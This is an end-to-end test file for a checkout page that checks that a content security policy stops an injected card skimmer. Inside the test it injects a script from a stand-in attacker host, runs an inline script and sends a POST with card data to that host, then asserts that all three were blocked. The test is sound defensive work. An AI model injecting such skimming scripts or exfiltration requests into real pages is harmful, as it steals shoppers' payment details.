import { Guest } from '../pages/guest.ts';
import { readyToPay } from '../scenarios/ordering.ts';
import { HEADINGS } from '../pages/result-page.ts';
import { expect, test } from '../test.ts';

test('a script that is put into the page where cards are typed neither runs nor is fetched (attack H39)', async ({
  browser,
  sandbox,
}) => {
  // A phone that nobody watches: the browser says of each what it kept from happening.
  const phone = await browser.newContext({ baseURL: sandbox.origin });
  const page = await phone.newPage();
  const guest = new Guest(page);
  const refused: string[] = [];
  page.on('console', (message) => void (/policy/i.test(message.text()) && refused.push(message.text())));
  const blocked: string[] = [];
  page.on('requestfailed', (request) => {
    if (request.failure()?.errorText === 'csp') blocked.push(request.url());
  });
  await readyToPay(guest);
  await page.evaluate(() => {
    const skimmer = document.createElement('script');
    skimmer.src = 'https://skimmer.example/steal.js';
    document.head.append(skimmer);
    const inline = document.createElement('script');
    inline.textContent = 'window.stolen = true';
    document.head.append(inline);
    void fetch('https://skimmer.example/cards', { method: 'POST', body: 'numbers' }).catch(() => undefined);
  });
  await guest.pay.pay.tap();
  await guest.isAt(HEADINGS.success);
  expect(await page.evaluate(() => Reflect.get(window, 'stolen'))).toBeUndefined();
  expect(blocked).toContain('https://skimmer.example/steal.js');
  expect(refused.length).toBeGreaterThanOrEqual(3);
  await phone.close();
});
